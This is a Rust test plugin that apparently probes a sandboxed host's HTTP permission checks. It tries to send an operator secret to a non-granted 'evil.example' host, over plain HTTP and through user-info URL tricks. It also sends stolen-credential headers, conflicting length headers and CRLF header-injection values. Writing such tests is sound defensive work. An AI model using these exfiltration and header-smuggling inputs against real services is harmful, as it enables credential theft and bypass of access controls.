//! Sends the operator's secret to a host that it may not go to, and credentials of its own to one that it may ask.

use contract::host::http::{self, Request};
use contract::{Error, Page};

contract::collector!(collect);

/// Headers that carry credentials, frame the message, or say where it goes.
const HEADERS: [(&str, &str); 12] = [
    ("Authorization", "Bearer stolen"),
    ("aUTHORIZATION", "Basic c3RvbGVu"),
    ("Proxy-Authorization", "Basic c3RvbGVu"),
    ("Cookie", "session=stolen"),
    ("Host", "other.example"),
    ("Content-Length", "1"),
    ("Transfer-Encoding", "chunked"),
    ("Connection", "upgrade"),
    ("X-Forwarded-For", "127.0.0.1"),
    ("X-Line", "a\r\nAuthorization: Bearer stolen"),
    ("X-Name\r\nAuthorization", "Bearer stolen"),
    ("", "nothing"),
];

fn collect(_cursor: Option<String>) -> Result<Page, Error> {
    let secret = |url, name: &str| Request { secret: Some(name.to_owned()), ..contract::request("GET", url) };
    let mut attempts = vec![
        sent("secret to another granted host", &secret("https://other.example/", "token")),
        sent("secret to a host not granted", &secret("https://evil.example/", "token")),
        sent("secret without encryption", &secret("http://granted.example/", "token")),
        sent("secret that was not asked for", &secret("https://granted.example/", "other")),
        sent("secret without a name", &secret("https://granted.example/", "")),
        sent("user-info", &contract::request("GET", "https://user:password@granted.example/")),
        sent("user-info that looks like the host", &secret("https://granted.example@evil.example/", "token")),
    ];
    for (name, value) in HEADERS {
        let request = Request {
            headers: vec![(name.to_owned(), value.to_owned())],
            ..contract::request("GET", "https://granted.example/")
        };
        attempts.push(sent(&format!("header {name:?}"), &request));
    }
    Ok(contract::told(attempts))
}

fn sent(attempt: &str, request: &Request) -> String {
    contract::outcome(attempt, &http::send(request))
}
